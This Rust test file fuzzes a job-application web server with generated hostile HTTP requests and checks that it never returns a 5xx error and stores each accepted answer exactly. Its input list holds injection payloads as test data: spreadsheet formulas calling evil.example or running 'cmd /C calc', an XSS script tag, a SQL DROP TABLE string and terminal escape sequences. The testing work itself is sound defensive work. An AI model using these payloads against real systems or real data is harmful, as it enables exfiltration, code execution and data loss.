//! A seeded abuse run against the real production server on 127.0.0.1: a few
//! hundred generated hostile requests (truncated and random multipart bodies,
//! bad boundaries, huge headers, non-ASCII and control characters in targets
//! and fields, oversized and duplicate fields, wrong content types, NUL bytes,
//! formulas and escape sequences in answers). The server must answer each with
//! a status from an expected set, never a 5xx, stay healthy, and keep every
//! application it acknowledged exactly once, its answers exactly as sent.
//!
//! The seed is fixed so CI runs the same requests; `ABUSE_SEED=N` replays or
//! explores another run, and every failure names the seed and the request;
//! `ABUSE_DEBUG=1` prints every request's kind and status.

mod common;
use common::TestSite;
use common::form::{BOUNDARY, Form, content_type};
use common::rng::Rng;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

const ROLE: &str = "/careers/apply/backend-engineer";
const DEFAULT_SEED: u64 = 20_261_123;
const REQUESTS: usize = 300;
/// The run stops generating after this long, whatever the count.
const BUDGET: Duration = Duration::from_secs(90);
/// Every status a hostile request may get: pages, redirects and refusals.
const EXPECTED: &[u16] = &[
    200, 204, 301, 400, 403, 404, 405, 408, 411, 413, 415, 422, 431,
];

/// Pieces hostile answers are made of.
const PIECES: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t",
    "\r",
    "\n",
    "\x1b[2J",
    "\x1b]0;owned\x07",
    "\u{202E}",
    "\u{2066}",
    "\u{9b}",
    "\u{7f}",
    "\0",
    "Zoë",
    "李",
    "🙂",
    "\"quoted\"",
    "<script>alert(1)</script>",
    "; DROP TABLE applications; --",
    "Ada",
    " ",
];

fn hostile_text(rng: &mut Rng) -> String {
    let n = 1 + rng.below(6);
    (0..n).map(|_| *rng.pick(PIECES)).collect()
}

/// One generated request: raw bytes, and the email of the application it
/// would store if the server accepts it.
struct Case {
    what: &'static str,
    bytes: Vec<u8>,
    tracked: Option<Form>,
}

fn post(target: &str, content_type: &[u8], extra: &[u8], body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "POST {target} HTTP/1.0\r\nHost: 127.0.0.1\r\nContent-Length: {}\r\nContent-Type: ",
        body.len()
    )
    .into_bytes();
    out.extend_from_slice(content_type);
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(extra);
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

fn hostile_form(rng: &mut Rng, i: usize) -> Form {
    let mut form = Form::valid().set("email", &format!("abuse{i}@example.com"));
    for field in ["name", "cover_letter", "q_why", "phone"] {
        if rng.below(2) == 0 {
            form = form.set(field, &hostile_text(rng));
        }
    }
    form
}

fn case(rng: &mut Rng, i: usize) -> Case {
    let ct = content_type();
    let make = |what, bytes| Case {
        what,
        bytes,
        tracked: None,
    };
    match rng.below(11) {
        0..=2 => {
            let form = hostile_form(rng, i);
            let bytes = post(ROLE, ct.as_bytes(), b"", &form.encode());
            Case {
                what: "hostile answers",
                bytes,
                tracked: Some(form),
            }
        }
        3 => {
            let body = hostile_form(rng, i).encode();
            let cut = rng.below(body.len());
            make(
                "truncated body",
                post(ROLE, ct.as_bytes(), b"", &body[..cut]),
            )
        }
        4 => {
            let body = Form::valid().encode();
            let types: [&[u8]; 5] = [
                b"multipart/form-data; boundary=other",
                b"multipart/form-data",
                "multipart/form-data; boundary=bé".as_bytes(),
                b"multipart/form-data; boundary=\"\"",
                b"multipart/form-data; boundary=a\x00b",
            ];
            make(
                "bad boundary",
                post(ROLE, rng.pick::<&[u8]>(&types), b"", &body),
            )
        }
        5 => {
            let body = Form::valid().encode();
            let types: [&[u8]; 4] = [
                b"application/json",
                b"text/plain",
                b"application/x-www-form-urlencoded",
                b"",
            ];
            make(
                "wrong content type",
                post(ROLE, rng.pick::<&[u8]>(&types), b"", &body),
            )
        }
        6 => {
            // Up to the 16 KB head limit this is an application like any other.
            let size = 8_000 + rng.below(40_000);
            let header = [b"X-Padding: ".as_slice(), &vec![b'a'; size], b"\r\n"].concat();
            let form = hostile_form(rng, i);
            let bytes = post(ROLE, ct.as_bytes(), &header, &form.encode());
            Case {
                what: "huge header",
                bytes,
                tracked: Some(form),
            }
        }
        7 => {
            let targets: [&[u8]; 6] = [
                "/careers/café".as_bytes(),
                "/careers/apply/backend-engineer\u{202E}".as_bytes(),
                b"/careers/\x00",
                b"/careers/\x1b[2J",
                b"/careers/%00%ff%c3",
                b"*",
            ];
            let mut bytes = b"GET ".to_vec();
            bytes.extend_from_slice(rng.pick::<&[u8]>(&targets));
            bytes.extend_from_slice(b" HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n");
            make("odd target", bytes)
        }
        8 => {
            // The first of each field counts; the duplicates must not change it.
            let first = hostile_form(rng, i);
            let mut form = first.clone();
            form.fields.push(("name".into(), "Second Name".into()));
            form.fields.push(("consent".into(), "yes".into()));
            let bytes = post(ROLE, ct.as_bytes(), b"", &form.encode());
            Case {
                what: "duplicate fields",
                bytes,
                tracked: Some(first),
            }
        }
        9 => {
            let big = "x".repeat(100_000 + rng.below(200_000));
            let form =
                Form::valid().set(rng.pick::<&str>(&["name", "cover_letter", "q_why"]), &big);
            make(
                "oversized field",
                post(ROLE, ct.as_bytes(), b"", &form.encode()),
            )
        }
        _ => {
            let mut body = format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"na\x00me\"\r\n\r\n"
            )
            .into_bytes();
            let n = rng.below(4_000);
            body.extend(rng.bytes(n));
            make(
                "random bytes",
                post(ROLE, ct.as_bytes(), b"X-Nul: a\x00b\r\n", &body),
            )
        }
    }
}

/// Sends `bytes` and reads the status of the answer; `Err` with what was read
/// when there is no well-formed status line.
fn exchange(addr: SocketAddr, bytes: &[u8]) -> Result<u16, String> {
    let mut stream = TcpStream::connect(addr).map_err(|e| format!("connect: {e}"))?;
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    stream
        .set_write_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    // The server may answer and stop reading early (413, 431): then read its answer.
    let _ = stream.write_all(bytes);
    let _ = stream.shutdown(std::net::Shutdown::Write);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let head = String::from_utf8_lossy(&answer[..answer.len().min(64)]).into_owned();
    let mut parts = head.splitn(3, ' ');
    let version = parts.next().unwrap_or_default();
    let status = parts.next().and_then(|s| s.parse::<u16>().ok());
    match status {
        Some(status) if version.starts_with("HTTP/1.") && (100..600).contains(&status) => {
            Ok(status)
        }
        _ => Err(format!("no status line: {head:?}")),
    }
}

fn exported(site: &TestSite) -> Vec<serde_json::Value> {
    let run = site.applications(&["export", "--format", "json"]).success();
    serde_json::from_str(&run.stdout).unwrap()
}

#[test]
fn hundreds_of_hostile_requests_leave_the_server_well_and_the_store_exact() {
    let seed = common::rng::seed(|| DEFAULT_SEED);
    let site = common::site_with_apply("");
    let server = common::server::Server::production(&site, &[]);
    let mut rng = Rng(seed);
    let started = Instant::now();
    let mut accepted: Vec<(usize, Form)> = Vec::new();
    let mut sent = 0;
    let mut untracked: Vec<String> = Vec::new();
    for i in 0..REQUESTS {
        if started.elapsed() > BUDGET {
            break;
        }
        let case = case(&mut rng, i);
        let status = exchange(server.addr, &case.bytes).unwrap_or_else(|e| {
            panic!(
                "seed {seed}, request {i} ({}): {e}\n{}",
                case.what,
                server.log()
            )
        });
        assert!(
            EXPECTED.contains(&status),
            "seed {seed}, request {i} ({}): status {status}\n{}",
            case.what,
            server.log()
        );
        match (status, case.tracked) {
            (200, Some(form)) => accepted.push((i, form)),
            (200, None) if case.what != "odd target" => {
                untracked.push(format!("{i} ({})", case.what))
            }
            _ => {}
        }
        if std::env::var("ABUSE_DEBUG").is_ok() {
            eprintln!("case {i} {} -> {status}", case.what);
        }
        sent += 1;
    }
    println!(
        "{sent} requests in {:?}, {} accepted",
        started.elapsed(),
        accepted.len()
    );
    assert!(
        untracked.is_empty(),
        "seed {seed}: acknowledged but not a complete form: {untracked:?}"
    );
    assert!(
        sent >= 100,
        "seed {seed}: only {sent} requests within {BUDGET:?}"
    );
    let health = server.get("/healthz");
    assert_eq!(health.status, 200, "seed {seed}: {}", health.body);
    check_store(&site, seed, &accepted);
}

/// Every acknowledged application is stored once, with its answers as sent
/// (browsers' CRLF line ends kept as LF), and nothing else is.
fn check_store(site: &TestSite, seed: u64, accepted: &[(usize, Form)]) {
    let stored = exported(site);
    if std::env::var("ABUSE_DEBUG").is_ok() {
        for a in &stored {
            eprintln!("stored {}", a["answers"]["email"]);
        }
    }
    assert_eq!(
        stored.len(),
        accepted.len(),
        "seed {seed}: stored vs acknowledged"
    );
    for (i, form) in accepted {
        let email = format!("abuse{i}@example.com");
        let mine: Vec<&serde_json::Value> = stored
            .iter()
            .filter(|a| a["answers"]["email"] == email.as_str())
            .collect();
        assert_eq!(
            mine.len(),
            1,
            "seed {seed}, request {i}: stored {} times",
            mine.len()
        );
        for field in ["name", "cover_letter", "q_why", "phone"] {
            let sent = form
                .fields
                .iter()
                .find(|(n, _)| n == field)
                .map(|(_, v)| v.replace("\r\n", "\n"));
            let kept = mine[0]["answers"][field].as_str().map(str::to_string);
            assert_eq!(kept, sent, "seed {seed}, request {i}: {field}");
        }
    }
}
